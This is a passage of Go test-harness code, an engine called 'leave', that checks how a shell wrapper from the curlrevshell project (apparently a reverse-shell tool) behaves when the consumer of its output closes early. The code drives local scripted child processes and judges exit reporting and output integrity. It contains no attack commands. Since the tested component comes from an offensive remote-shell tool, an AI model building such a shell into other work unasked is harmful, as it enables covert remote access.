		names = append(names, fmt.Sprintf("%s=% x", mg.Name, mg.B))
	}
	r.Extra("input_special_sequences", names)

	r.Floor("input_cases", int64(n*9/10))
	r.Floor("input_cases_exact", int64(n*9/10))
	for name, k := range planned {
		r.Floor("input_reader_"+name+"_cases", k)
	}
	r.Floor("input_http_cases_http1.1", planned["http1-response-body"]*9/10)
	r.Floor("input_http_cases_http2.0", planned["http2-response-body"]*9/10)
	// every sequence led a read of every kind of reader at least once, bar a few
	// (kind, sequence) pairs the load may have cost (a hand-over wait that expired)
	r.Floor("input_reader_and_sequence_pairs_with_the_sequence_leading_a_read", int64(len(inKinds))*m*19/20)
	r.Floor("input_sequences_leading_a_chunk", m)
	r.Floor("input_sequences_ending_a_chunk", m*9/10)
	r.Floor("input_sequences_alone_in_a_chunk", m*9/10)
	r.Floor("input_sequences_at_the_start_of_a_stream", m)
	r.Floor("input_sequences_split_across_two_chunks", int64(len(inSplits)))
	r.Floor("input_chunks_beginning_with_utf8_bom_or_part_of_it", int64(4*len(inKinds)*rounds*3/4))
	r.Floor("input_crlf_split_across_chunks", int64(rounds*4))
	r.Floor("input_lone_nul_chunks", int64(rounds*20))
	r.Floor("input_lone_cr_then_lone_lf_chunks", int64(rounds*20))
	r.Floor("input_zero_length_reads", int64(rounds*10))
	r.Floor("input_scripted_reads_returning_a_whole_chunk", int64(rounds*60))
	r.Floor("input_chunks_handed_over_after_child_had_seen_all_before", plannedSync*3/4)
	r.Floor("input_end_held_back_with_child_still_waiting_cases", plannedHold*3/4)
	r.Floor("input_eof_with_last_bytes_cases", int64(rounds*2))
	r.Floor("input_bytes_logged_by_child", 200_000*int64(rounds))
}

package c14

// Engine "leave": the consumer of Output() leaves.
//
// Every consumer of the other engines reads Output() to its end.  A consumer
// may also go away: net/http closes the request body (the io.ReadCloser that
// Output() returns) when the connection is lost, and any caller may stop
// reading after as many bytes as it likes and Close() the reader.  Here the
// consumer reads an exact number of bytes (0 to several pipe buffers) on a
// scripted schedule and then closes the reader - at once, after a pause, from
// a second goroutine while a Read is pending, or with CloseWithError when the
// reader offers it - while the child is still running: before its further
// writes (the child waits at a gate file which the harness creates only after
// Close has returned), while it writes (paced small writes without a gate, or
// blocked in a write of several pipe buffers), or after its last write.  The
// child then ends in every way the other engines know: exit 0, a non-zero
// status, a signal to itself, or the command's context is cancelled (SIGKILL to
// the group, or SIGTERM which the child's handler turns into exit 98).
//
// What is judged is what the property promises whatever the consumer does: an
// unsuccessful wait status (as exec.Cmd recorded it) must come back from Go as
// a non-nil error, and the bytes that were delivered before the consumer left
// must be a correct prefix per descriptor.  With a successful exit either
// return value of Go is accepted (a consumer that went away may well be
// reported as an error) and only counted.

import (
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/lib/simpleshell"
	"github.com/magisterquis/curlrevshell/verifharness/mon"
)

const (
	leaveEngine  = "leave"
	leaveWorkers = 16
)

// end and moment go by index: every (end, moment) pair occurs in any 64
// consecutive cases, whatever the seed.
var leaveEnds = []string{"exit0", "nonzero", "signal", "ctx-kill", "nonzero", "signal", "ctx-term", "nonzero"}
var leaveMoments = []string{"before", "while-paced", "before", "after", "while-blocked", "before", "cat", "while-paced"}

var errConsumerLeft = errors.New("c14: the consumer has left")

type leaveSpec struct {
	C          *spec
	Moment     string // before | after | while-paced | while-blocked | cat
	End        string // exit0 | nonzero | signal | ctx-kill | ctx-term
	How        string // close | close-lag | close-during-read | close-with-error
	LagMs      int    // close-lag: the consumer stops reading this long before it closes
	K          int    // bytes the consumer reads before it leaves
	U          int    // written by the child before the consumer leaves and never read
	AOut, AErr int    // written before the consumer leaves (K+U)
	BOut, BErr int    // written after that
	WB         [2]int // write sizes of those
	BlockFd    int    // while-blocked: descriptor of the write of several pipe buffers
	Stdin      string // none | open-pipe | open-pipe-data | open-osfile | eof-reader | data-drain | cat-data
	P          int    // cat: input bytes available before the consumer leaves (the rest comes after)
	UseCtx     bool   // built with exec.CommandContext
	GroupKill  bool   // ctx-kill: Cancel kills the process group (otherwise os/exec's default)
	GoCtx      bool   // Go gets the command's context
	PostMs     int    // ctx-*: pause between the child's last report and the cancellation
	Read       consumerSpec
}

func (e *leaveSpec) ctxEnd() bool { return strings.HasPrefix(e.End, "ctx") }

func genLeave(r *mon.Run, i int) *leaveSpec {
	rng := r.Rng(leaveEngine, i)
	e := &leaveSpec{End: leaveEnds[i%8], Moment: leaveMoments[(i/8+i)%8]}
	switch {
	case e.Moment == "while-blocked" && !e.ctxEnd():
		// a child blocked in a write nobody drains is ended by its context only
		e.End = []string{"ctx-kill", "ctx-term"}[(i/8)%2]
	case e.Moment == "cat" && e.ctxEnd():
		// the cat child ends at end of input
		e.End = []string{"nonzero", "signal"}[(i/8)%2]
	}
	cs := &spec{Index: i, Flavor: "perl", Mode: "pattern"}
	e.C = cs
	switch e.End {
	case "nonzero":
		cs.Exit = []int{1, 3, 255}[rng.IntN(3)]
	case "signal":
		cs.Sig = sigSet[(i/8+i%8/3)%len(sigSet)]
	}
	e.UseCtx = e.ctxEnd() || rng.IntN(3) == 0
	e.GroupKill = rng.IntN(2) == 0
	e.GoCtx = rng.IntN(2) == 0
	e.PostMs = []int{0, 0, 5, 30}[rng.IntN(4)]
	e.How = []string{"close", "close", "close", "close-lag", "close-during-read", "close-with-error"}[rng.IntN(6)]
	e.LagMs = 1 + rng.IntN(40)
	e.K = []int{0, 0, 1, 10, 4096, 65535, 65536, 65537, 131072, 262144, 400000}[rng.IntN(11)]
	// unread when the consumer leaves: a quarter of a pipe at most, so the
	// child is never blocked before the point, and there is room for what it
	// writes afterwards whatever the write sizes did to the pipe's pages (once
	// the consumer has left nobody drains the child's pipes: a child that
	// fills one never ends by itself, and the property promises nothing then)
	e.U = []int{0, 0, 1, 4096, 16384}[rng.IntN(5)]
	if e.How == "close-during-read" {
		if e.Moment == "before" || e.Moment == "after" {
			e.U = 0 // the pending Read finds nothing
		} else {
			e.How = "close"
		}
	}
	e.Read = genConsumer(rng, e.K+1, true, []string{"fast", "fast", "chunked", "slow"}[rng.IntN(4)])

	if e.Moment == "cat" {
		cs.Mode = "cat"
		e.K = min(e.K, 262144)
		u1 := []int{0, 1, 4096, 12000}[rng.IntN(4)]
		r2 := []int{0, 1, 1, 4096, 12000}[rng.IntN(5)]
		e.U, e.P = u1, e.K+u1
		n := e.P + r2
		cs.NOut, e.AOut, e.BOut = n, e.P, r2
		cs.data = make([]byte, n)
		fillRand(rng, cs.data)
		e.Stdin = "cat-data"
		cs.Stdin = genStdinFeed(rng, n, "data-reader")
		cs.CatRead = []int{100, 4096, 65536, 65536}[rng.IntN(4)]
		if n/cs.CatRead > 3000 {
			cs.CatRead = 4096
		}
		cs.ExitMode = []string{"after-report", "linger"}[rng.IntN(2)]
		if cs.ExitMode == "linger" {
			cs.LingerMs = 1 + rng.IntN(30)
		}
		return e
	}

	a := e.K + e.U
	switch rng.IntN(4) {
	case 0:
		e.AOut = a
	case 1:
		e.AErr = a
	default:
		e.AOut = rng.IntN(a + 1)
		e.AErr = a - e.AOut
	}
	so, do := writeSizes(rng, e.AOut)
	se, de := writeSizes(rng, e.AErr)
	cs.WOut, cs.WErr = do, de
	cs.Interleave = []string{"out-first", "err-first", "random", "alternate"}[rng.IntN(4)]
	ops := mergeOps(rng, cs.Interleave, so, se)
	ops = append(ops, op{K: "Q"})
	room := 8192 // per descriptor, after the consumer has left
	if e.U == 0 {
		room = pipeCap / 2
	}
	split := func(n, w int) (s []int) {
		for ; n > 0; n -= w {
			s = append(s, min(w, n))
		}
		return
	}
	switch e.Moment {
	case "before", "after":
		ops = append(ops, op{K: "G"})
		if e.Moment == "before" {
			for fd := 0; fd < 2; fd++ {
				n := min([]int{0, 1, 1000, 4096, 30000, 32768}[rng.IntN(6)], room)
				w := []int{1, 512, 4096, 65536}[rng.IntN(4)]
				if w == 1 && n > 16 {
					w = 4096
				}
				e.WB[fd] = w
				if fd == 0 {
					e.BOut = n
				} else {
					e.BErr = n
				}
			}
			if e.BOut+e.BErr == 0 { // "before its further writes": there is at least one
				if rng.IntN(2) == 0 {
					e.BOut, e.WB[0] = min(1+rng.IntN(2000), room), 512
				} else {
					e.BErr, e.WB[1] = min(1+rng.IntN(2000), room), 512
				}
			}
			for _, o := range mergeOps(rng, cs.Interleave, split(e.BOut, e.WB[0]), split(e.BErr, e.WB[1])) {
				if rng.IntN(4) == 0 {
					o.P = rng.IntN(2001)
				}
				ops = append(ops, o, op{K: "Q"})
			}
		}
	case "while-paced":
		// no gate: small writes with pauses go on while the consumer leaves
		for fd := 0; fd < 2; fd++ {
			k := 2 + rng.IntN(6)
			w := []int{1, 100, 1000, 2048}[rng.IntN(4)]
			e.WB[fd] = w
			if fd == 0 {
				e.BOut = k * w
			} else {
				e.BErr = k * w
			}
		}
		if rng.IntN(4) == 0 {
			e.BErr = 0
		}
		for _, o := range mergeOps(rng, "random", split(e.BOut, e.WB[0]), split(e.BErr, e.WB[1])) {
			o.P = 300 + rng.IntN(2700)
			ops = append(ops, o, op{K: "Q"})
		}
	case "while-blocked":
		e.BlockFd = 1 + rng.IntN(2)
		n := []int{3, 4, 6}[rng.IntN(3)] * pipeCap
		if e.BlockFd == 1 {
			e.BOut = n
		} else {
			e.BErr = n
		}
		ops = append(ops, op{K: fmt.Sprintf("w%d", e.BlockFd), N: n})
	}
	// input
	e.Stdin = []string{"none", "open-pipe", "open-pipe", "open-pipe-data", "open-osfile", "eof-reader", "data-drain", "data-drain"}[rng.IntN(8)]
	if e.Stdin == "data-drain" {
		n := []int{0, 1, 1000, 70000}[rng.IntN(4)]
		cs.Stdin = genStdinFeed(rng, n, "data-reader")
		cs.data = make([]byte, n)
		fillRand(rng, cs.data)
		if e.Moment != "while-blocked" {
			ops = append(ops, op{K: "E"}) // the child ends after end of input
		}
	}
	// end
	ops = append(ops, op{K: "R"})
	switch {
	case e.ctxEnd():
		cs.ExitMode, cs.LingerMs = "linger", 20000
		ops = append(ops, op{K: "S", N: 20_000_000})
	case rng.IntN(2) == 0:
		cs.ExitMode, cs.LingerMs = "linger", 1+rng.IntN(40)
		ops = append(ops, op{K: "S", N: cs.LingerMs * 1000})
	default:
		cs.ExitMode = "after-report"
	}
	cs.Ops = ops
	cs.NOut, cs.NErr = e.AOut+e.BOut, e.AErr+e.BErr
	return e
}

func (e *leaveSpec) sig() string {
	c := e.C
	return fmt.Sprintf("leave|%s|%s|%s|%d|%d|%d|%d|%d|%d|%d|%v|%s|%d|%v|%v|%v|%d%s|%s|%s|%v|%v|%d|%d",
		e.Moment, e.End, e.How, e.LagMs, e.K, e.U, e.AOut, e.AErr, e.BOut, e.BErr, e.WB, e.Stdin, e.P, e.UseCtx, e.GroupKill, e.GoCtx,
		c.Exit, c.Sig, c.ExitMode, c.Interleave, e.Read.Chunks, e.Read.DelaysUs, c.Stdin.N, c.CatRead)
}

func (e *leaveSpec) desc() string {
	return fmt.Sprintf("leave case %d (consumer reads %d bytes and leaves by %s %s the child's further writes; %d bytes written and unread by then, %d+%d written afterwards; child ends by %s; input %s)",
		e.C.Index, e.K, e.How, map[string]string{"before": "before", "after": "after the last of", "while-paced": "during", "while-blocked": "while the child is blocked in one of", "cat": "before the rest of the input arrives and with it"}[e.Moment],
		e.U, e.BOut, e.BErr, e.endDesc(), e.Stdin)
}

func (e *leaveSpec) endDesc() string {
	switch e.End {
	case "ctx-kill":
		return "cancellation of its context (SIGKILL)"
	case "ctx-term":
		return "cancellation of its context (SIGTERM, its handler exits 98)"
	}
	return e.C.exitDesc()
}

// gatedReader hands out the first p bytes of a scripted input, then waits for
// the gate before it goes on.
type gatedReader struct {
	sr   *scriptedReader
	p    int
	gate <-chan struct{}
	stop <-chan struct{}
}

func (g *gatedReader) Read(b []byte) (int, error) {
	if len(b) == 0 {
		return 0, nil
	}
	if g.sr.off < g.p {
		b = b[:min(len(b), g.p-g.sr.off)]
	} else {
		select {
		case <-g.gate:
		case <-g.stop:
			return 0, io.EOF
		}
	}
	return g.sr.Read(b)
}

type leaveResult struct {
	got             []byte
	readErr         error // Output() reported a terminal condition before the consumer had its K bytes
	earlyEnd        bool
	reads           int
	pointReached    bool
	left            bool // the consumer closed Output()
	aliveAtLeave    bool // the child was running (per /proc) right before
	howDone         string
	closeErr        error
	pendingReadErr  error
	pendingReturned bool
	repAtLeave      *report
	seenAtLeave     int64
	cancelled       bool
	exitSeen        bool
	goErr           error
	goReturned      bool
	goHung          bool
	timedOut        bool
	killed          bool
	rep             *report
	procKnown       bool
	procSuccess     bool
	procExit        int
	procSignaled    bool
	procSignal      syscall.Signal
	procState       string
	seen            []byte
	handed          int
	setupErr        string
	wall            time.Duration
	leaveToGo       time.Duration
}

// readExactly reads k bytes on the consumer's schedule.
func readExactly(out io.Reader, k int, c consumerSpec, stop <-chan struct{}) (co consOut) {
	co.got = make([]byte, 0, k+pipeCap)
	buf := make([]byte, 65536)
	for j := 0; len(co.got) < k; j++ {
		if !nap(time.Duration(c.DelaysUs[j%len(c.DelaysUs)])*time.Microsecond, stop) {
			co.aborted = true
			return
		}
		n, err := out.Read(buf[:min(c.Chunks[j%len(c.Chunks)], k-len(co.got))])
		co.reads++
		co.got = append(co.got, buf[:n]...)
		if err != nil {
			select {
			case <-stop:
				co.aborted = true
			default:
				co.err = err
			}
			return
		}
	}
	return
}

func runLeave(e *leaveSpec, dir string, bound time.Duration) (res *leaveResult) {
	res = &leaveResult{}
	s := e.C
	t0 := time.Now()
	deadline := t0.Add(bound)
	defer func() { res.wall = time.Since(t0) }()
	if err := os.MkdirAll(dir, 0o755); err != nil {
		res.setupErr = err.Error()
		return
	}
	prog, text := s.script(dir)
	path := filepath.Join(dir, "child")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		res.setupErr = err.Error()
		return
	}
	ctx, cancel := context.WithCancel(context.Background())
	defer cancel()
	var cmd *exec.Cmd
	if e.UseCtx {
		cmd = exec.CommandContext(ctx, prog, path)
	} else {
		cmd = exec.Command(prog, path)
	}
	cmd.Dir = dir
	switch {
	case e.End == "ctx-term":
		cmd.Cancel = func() error { return cmd.Process.Signal(syscall.SIGTERM) }
	case e.UseCtx && e.GroupKill:
		cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
		cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	}
	sh, err := simpleshell.NewCmdShell(cmd)
	if err != nil {
		res.setupErr = "NewCmdShell: " + err.Error()
		return
	}

	stop := make(chan struct{})
	var stopOnce sync.Once
	closeStop := func() { stopOnce.Do(func() { close(stop) }) }
	defer closeStop()
	stdinStop := make(chan struct{})
	var stdinOnce sync.Once
	closeStdin := func() { stdinOnce.Do(func() { close(stdinStop) }) }
	defer closeStdin()
	inputGate := make(chan struct{})
	var handed atomic.Int64
	switch e.Stdin {
	case "open-pipe", "open-pipe-data":
		pr, pw := io.Pipe()
		sh.SetInput(pr)
		go func() {
			if e.Stdin == "open-pipe-data" {
				pw.Write([]byte(strings.Repeat("nobody reads this\n", 50)))
			}
			<-stdinStop
			pw.Close()
		}()
	case "open-osfile":
		pr, pw, err := os.Pipe()
		if err != nil {
			res.setupErr = err.Error()
			return
		}
		defer pr.Close()
		sh.SetInput(pr)
		go func() { <-stdinStop; pw.Close() }()
	case "eof-reader":
		sh.SetInput(strings.NewReader(""))
	case "data-drain":
		sh.SetInput(&scriptedReader{data: s.data, sp: s.Stdin, stop: stdinStop, handed: &handed})
	case "cat-data":
		sr := &scriptedReader{data: s.data, sp: s.Stdin, stop: stdinStop, handed: &handed}
		sh.SetInput(&gatedReader{sr: sr, p: e.P, gate: inputGate, stop: stdinStop})
	}

	out := sh.Output()
	goCh := make(chan error, 1)
	goCtx := context.Background()
	if e.GoCtx {
		goCtx = ctx
	}
	go func() { goCh <- sh.Go(goCtx) }()

	until := func(max time.Duration, cond func() bool) bool {
		dl := time.Now().Add(max)
		if dl.After(deadline) {
			dl = deadline
		}
		for {
			if cond() {
				return true
			}
			if time.Now().After(dl) {
				return false
			}
			time.Sleep(time.Millisecond)
		}
	}
	reported := func(o, er int, kinds ...string) bool {
		rp := readReport(dir)
		if rp == nil || rp.Out < o || rp.Err < er {
			return false
		}
		for _, k := range kinds {
			if rp.Kind == k {
				return true
			}
		}
		return len(kinds) == 0
	}

	// 1. the consumer reads its K bytes
	consCh := make(chan consOut, 1)
	go func() { consCh <- readExactly(out, e.K, e.Read, stop) }()
	var co consOut
	select {
	case co = <-consCh:
	case <-time.After(time.Until(deadline)):
		res.timedOut = true
	}
	if res.timedOut {
		closeStop()
		out.Close()
		select {
		case co = <-consCh:
		case <-time.After(5 * time.Second):
		}
	}
	res.got, res.reads = co.got, co.reads
	if co.err != nil {
		res.earlyEnd, res.readErr = true, co.err
	}

	if !res.timedOut && !res.earlyEnd {
		// 2. the child is where the case wants it
		switch e.Moment {
		case "before", "after", "while-blocked":
			res.pointReached = until(10*time.Second, func() bool { return reported(e.AOut, e.AErr, "partial", "done") })
			if e.Moment == "while-blocked" {
				time.Sleep(30 * time.Millisecond) // the child is in its large write by now (not checked: decides only what is exercised)
			}
		case "cat":
			res.pointReached = until(10*time.Second, func() bool {
				fi, err := os.Stat(filepath.Join(dir, "stdin.seen"))
				return err == nil && fi.Size() >= int64(e.P)
			})
		default:
			res.pointReached = true
		}
		// 3. the consumer leaves
		res.repAtLeave = readReport(dir)
		if fi, err := os.Stat(filepath.Join(dir, "stdin.seen")); err == nil {
			res.seenAtLeave = fi.Size()
		}
		res.aliveAtLeave = childState(dir) != 2 // running, or not even started
		tl := time.Now()
		res.howDone = e.How
		switch e.How {
		case "close-lag":
			time.Sleep(time.Duration(e.LagMs) * time.Millisecond)
			res.closeErr = out.Close()
		case "close-with-error":
			if cw, ok := out.(interface{ CloseWithError(error) error }); ok {
				res.closeErr = cw.CloseWithError(errConsumerLeft)
			} else {
				res.howDone = "close"
				res.closeErr = out.Close()
			}
		case "close-during-read":
			type rd struct {
				b   []byte
				err error
			}
			rdCh := make(chan rd, 1)
			go func() {
				b := make([]byte, 4096)
				n, err := out.Read(b)
				rdCh <- rd{b[:n], err}
			}()
			time.Sleep(5 * time.Millisecond) // the Read is pending now (or has found bytes: they count as delivered)
			res.closeErr = out.Close()
			select {
			case x := <-rdCh:
				res.pendingReturned, res.pendingReadErr = true, x.err
				res.got = append(res.got, x.b...)
			case <-time.After(10 * time.Second):
			}
		default:
			res.closeErr = out.Close()
		}
		res.left = true
		// 4. the child goes on
		os.WriteFile(filepath.Join(dir, "go"), nil, 0o644)
		close(inputGate)
		// 5. and ends
		if e.ctxEnd() {
			if e.Moment == "while-blocked" {
				time.Sleep(20 * time.Millisecond)
			} else {
				until(10*time.Second, func() bool { return reported(0, 0, "done") })
			}
			time.Sleep(time.Duration(e.PostMs) * time.Millisecond)
			cancel()
			res.cancelled = true
		}
		res.exitSeen = until(bound, func() bool { return childState(dir) == 2 })
		// an input that was left open ends now, so that exec's stdin copier
		// lets Wait return
		closeStdin()
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
			res.leaveToGo = time.Since(tl)
		case <-time.After(max(time.Until(deadline), time.Second)):
			res.goHung = true
		}
	} else if res.earlyEnd {
		closeStdin()
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
		case <-time.After(max(time.Until(deadline), time.Second)):
			res.goHung = true
		}
	}
	closeStdin()
	if !res.goReturned {
		if pid := readPid(dir); pid != 0 {
			if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
				res.killed = true
				syscall.Kill(pid, syscall.SIGKILL)
			}
		}
		cancel()
		select {
		case res.goErr = <-goCh:
			res.goReturned = true
		case <-time.After(5 * time.Second):
		}
	}
	if res.goReturned && cmd.ProcessState != nil {
		res.procKnown = true
		res.procSuccess = cmd.ProcessState.Success()
		res.procExit = cmd.ProcessState.ExitCode()
		res.procState = cmd.ProcessState.String()
		if ws, ok := cmd.ProcessState.Sys().(syscall.WaitStatus); ok && ws.Signaled() {
			res.procSignaled = true
			res.procSignal = ws.Signal()
		}
	}
	res.rep = readReport(dir)
	res.handed = int(handed.Load())
	if s.Mode == "cat" {
		res.seen, _ = os.ReadFile(filepath.Join(dir, "stdin.seen"))
	}
	cancel()
	if pid := readPid(dir); pid != 0 {
		if pi := procStat(pid); pi.state != 0 && pi.state != 'Z' && pi.ppid == os.Getpid() {
			syscall.Kill(pid, syscall.SIGKILL)
		}
	}
	return
}

// wroteAfterLeave: the child's own account says it wrote after the consumer
// had left.
func (e *leaveSpec) wroteAfterLeave(res *leaveResult) bool {
	if !res.left || res.rep == nil {
		return false
	}
	if e.C.Mode == "cat" {
		return int64(res.rep.Out) > res.seenAtLeave
	}
	at := res.repAtLeave
	return at == nil || res.rep.Out > at.Out || res.rep.Err > at.Err
}

func judgeLeave(e *leaveSpec, res *leaveResult) (v verdict) {
	s := e.C
	add := func(key, f string, a ...any) { v.viol = append(v.viol, finding{key, fmt.Sprintf(f, a...)}) }
	if res.setupErr != "" {
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave case %d: setup failed: %s", s.Index, res.setupErr))
		return
	}
	// what was delivered before the consumer left is a correct prefix
	if s.Mode == "pattern" {
		outB, errB, junk := splitAlphabets(res.got)
		v.gotOut, v.gotErr = len(outB), len(errB)
		if junk >= 0 {
			add("output-corrupt", "byte %#02x at offset %d of Output() belongs to neither descriptor's alphabet (context %q)", res.got[junk], junk, res.got[max(0, junk-8):min(len(res.got), junk+24)])
		}
		if i := firstBad(outB, 'a'); i >= 0 {
			add("output-corrupt", "stdout bytes are not the sequence the child wrote: first wrong byte at stdout offset %d (got %q, want %q) of %d received", i, outB[i], 'a'+byte(pos(i)), len(outB))
		}
		if i := firstBad(errB, 'A'); i >= 0 {
			add("output-corrupt", "stderr bytes are not the sequence the child wrote: first wrong byte at stderr offset %d (got %q, want %q) of %d received", i, errB[i], 'A'+byte(pos(i)), len(errB))
		}
		if len(outB) > s.NOut || len(errB) > s.NErr {
			add("output-corrupt", "more bytes delivered than the child can have written: stdout %d of %d, stderr %d of %d", len(outB), s.NOut, len(errB), s.NErr)
		}
	} else {
		v.gotOut = len(res.got)
		if p := commonPrefix(res.seen, s.data); p < len(res.seen) {
			if p < len(s.data) {
				add("stdin-corrupt", "the child's stdin differs from the input stream at offset %d (child saw %#02x, sent %#02x; %d seen, %d sent)", p, res.seen[p], s.data[p], len(res.seen), len(s.data))
			} else {
				add("stdin-corrupt", "the child saw %d bytes on stdin, only %d were sent", len(res.seen), len(s.data))
			}
		} else if res.rep != nil && res.rep.Kind == "done" && res.left && res.handed == len(s.data) && len(res.seen) < len(s.data) {
			// (the shell took all of the input from the reader, which then reported its end)
			add("stdin-truncated", "the child saw end of input after %d of the %d bytes available through SetInput (the shell took %d of them from the reader)", len(res.seen), len(s.data), res.handed)
		}
		if p := commonPrefix(res.got, s.data); p < len(res.got) {
			add("output-corrupt", "Output() differs from what the child was given to copy at offset %d (%d received before the consumer left)", p, len(res.got))
		}
	}
	if res.timedOut {
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave case %d: the consumer had %d of the %d bytes it reads before leaving when the bound expired", s.Index, len(res.got), e.K))
		return
	}
	if res.earlyEnd {
		// the stream ended by itself before the consumer could leave: judged
		// like any other stream end, against the child's own account
		if rp := res.rep; rp != nil {
			if v.gotOut < rp.Out {
				add("stdout-truncated", "Output() ended (%s) after %d of the %d stdout bytes the child reports having written, before the consumer had the %d bytes it meant to read", errStr(res.readErr), v.gotOut, rp.Out, e.K)
			}
			if v.gotErr < rp.Err {
				add("stderr-truncated", "Output() ended (%s) after %d of the %d stderr bytes the child reports having written, before the consumer had the %d bytes it meant to read", errStr(res.readErr), v.gotErr, rp.Err, e.K)
			}
		}
	}
	if e.How == "close-during-read" && res.left && !res.pendingReturned {
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave case %d: a Read pending when Output() was closed had not returned 10 s later", s.Index))
	}
	switch {
	case res.goHung || !res.goReturned:
		v.inconcl = append(v.inconcl, fmt.Sprintf("leave case %d: Go had not returned when the bound expired (consumer left: %v, child exit seen: %v, input closed)", s.Index, res.left, res.exitSeen))
	case res.procKnown && !res.procSuccess && res.goErr == nil && !res.killed:
		how := "the consumer had read to the end of the stream"
		if res.left {
			how = fmt.Sprintf("the consumer had closed Output() after %d bytes while the child was running; the child reported %s then and %s in the end", len(res.got), repStr(res.repAtLeave), repStr(res.rep))
		}
		if res.procSignaled {
			add("signal-death-not-reported", "the child was killed by a signal (wait status: %s) and Go returned nil; %s", res.procState, how)
		} else {
			add("nonzero-exit-not-reported", "the child exited with status %d and Go returned nil; %s", res.procExit, how)
		}
	}
	return
}

func witnessLeave(e *leaveSpec, res *leaveResult, v verdict, dir string) map[string]any {
	s := e.C
	_, text := s.script(dir)
	if len(text) > 6000 {
		text = text[:3000] + "\n…(plan shortened)…\n" + text[len(text)-1500:]
	}
	w := map[string]any{
		"moment": e.Moment, "end_planned": e.End, "how_the_consumer_leaves": res.howDone, "pause_before_close_ms": e.LagMs,
		"bytes_read_before_leaving_planned": e.K, "bytes_read_before_leaving": len(res.got), "read_schedule": e.Read,
		"bytes_written_and_unread_at_leave_planned": e.U, "bytes_written_before_leave": []int{e.AOut, e.AErr},
		"bytes_written_after_leave_planned": []int{e.BOut, e.BErr}, "write_size_of_those": e.WB,
		"input": e.Stdin, "input_bytes": len(s.data), "built_with_context": e.UseCtx, "go_gets_the_commands_context": e.GoCtx,
		"child_script": text, "exit_status_planned": s.Exit, "killed_by_own_signal": s.Sig,
		"point_reached": res.pointReached, "consumer_left": res.left, "child_running_when_consumer_left": res.aliveAtLeave,
		"close_returned": errStr(res.closeErr), "pending_read_returned": errStr(res.pendingReadErr),
		"stream_ended_before_consumer_left": res.earlyEnd, "stream_terminal_condition": errStr(res.readErr),
		"child_report_at_leave": repStr(res.repAtLeave), "child_report_final": repStr(res.rep),
		"context_cancelled": res.cancelled, "child_exit_seen": res.exitSeen, "wait_status": res.procState,
		"stdout_bytes_received": v.gotOut, "stderr_bytes_received": v.gotErr,
		"go_returned": res.goReturned, "go_error": errStr(res.goErr), "leave_to_go_return_ms": res.leaveToGo.Milliseconds(), "wall_ms": res.wall.Milliseconds(),
	}
	if s.Mode == "cat" {
		w["input_bytes_available_before_leave"] = e.P
		w["stdin_bytes_seen_by_child_at_leave"] = res.seenAtLeave
		w["stdin_bytes_seen_by_child"] = len(res.seen)
		w["stdin_head"] = short(s.data)
	}
	return w
}

func runLeaveEngine(r *mon.Run) {
	if !r.WantEngine(leaveEngine) {
		return
	}
	n := r.N(128, 2560)
	var mu sync.Mutex
	sampled := map[string]bool{}

	one := func(i int) {
		e := genLeave(r, i)
		dir := filepath.Join(r.Work, fmt.Sprintf("l%d", i))
		res := runLeave(e, dir, 30*time.Second)
		defer os.RemoveAll(dir)
		v := judgeLeave(e, res)
		r.Eval(1)
		r.Distinct(e.sig())
		r.Count("leave_cases", 1)
		r.Count("leave_moment_"+e.Moment+"_cases", 1)
		if res.earlyEnd {
			r.Count("leave_stream_ended_before_consumer_left_cases", 1)
		}
		if res.goHung || !res.goReturned {
			r.Count("leave_go_did_not_return_in_time", 1)
		} else {
			r.Count("leave_go_returned_cases", 1)
		}
		if res.killed {
			r.Count("children_killed_by_harness", 1)
		}
		if res.left && res.aliveAtLeave && res.pointReached {
			r.Count("leave_consumer_left_while_child_running_cases", 1)
			r.Count("leave_how_"+res.howDone+"_cases", 1)
			if e.How == "close-during-read" && res.pendingReturned && res.pendingReadErr != nil {
				r.Count("leave_pending_read_ended_by_close_cases", 1)
			}
			r.Count("leave_bytes_read_before_leaving", int64(len(res.got)))
			switch k := len(res.got); {
			case k == 0:
				r.Count("leave_after_0_bytes_cases", 1)
			case k >= 2*pipeCap:
				r.Count("leave_after_2_pipe_buffers_or_more_cases", 1)
				fallthrough
			case k >= pipeCap:
				r.Count("leave_after_1_pipe_buffer_or_more_cases", 1)
			}
			if e.U > 0 {
				r.Count("leave_with_unread_output_cases", 1)
			}
			r.Count("leave_input_"+e.Stdin+"_cases", 1)
			// a child blocked in a write when the consumer left: how much of
			// that write happened afterwards is not known, so it is neither
			wrote := e.Moment != "while-blocked" && e.wroteAfterLeave(res)
			switch {
			case e.Moment == "while-blocked":
				r.Count("leave_child_in_a_write_of_several_pipe_buffers_cases", 1)
			case wrote:
				r.Count("leave_child_wrote_after_consumer_left_cases", 1)
			default:
				r.Count("leave_child_wrote_nothing_after_consumer_left_cases", 1)
			}
			if res.goReturned && res.procKnown {
				kind := ""
				switch {
				case res.procSuccess:
					r.Count("leave_clean_exit_cases", 1)
					if res.goErr != nil {
						r.Count("leave_go_error_on_clean_exit", 1) // accepted either way
						if errors.Is(res.goErr, io.ErrClosedPipe) {
							r.Count("leave_go_error_on_clean_exit_is_closed_pipe", 1)
						}
					}
				case res.cancelled && (res.procSignaled && res.procSignal == syscall.SIGKILL || !res.procSignaled && res.procExit == 98):
					kind = "ended_by_context"
					if res.procSignaled {
						r.Count("leave_child_killed_by_context_cases", 1)
					} else {
						r.Count("leave_child_ended_by_its_sigterm_handler_cases", 1)
					}
				case res.procSignaled && e.C.Sig != "" && sigNum[e.C.Sig] == res.procSignal:
					kind = "signal_exit"
					r.Count("leave_signal_exit_cases_"+e.C.Sig, 1)
				case !res.procSignaled && e.C.Sig == "" && e.C.Exit != 0 && res.procExit == e.C.Exit:
					kind = "nonzero_exit"
				default:
					kind = "other_unsuccessful_exit"
				}
				if kind != "" {
					r.Count("leave_unsuccessful_exit_cases", 1)
					r.Count("leave_"+kind+"_cases", 1)
					if res.goErr != nil {
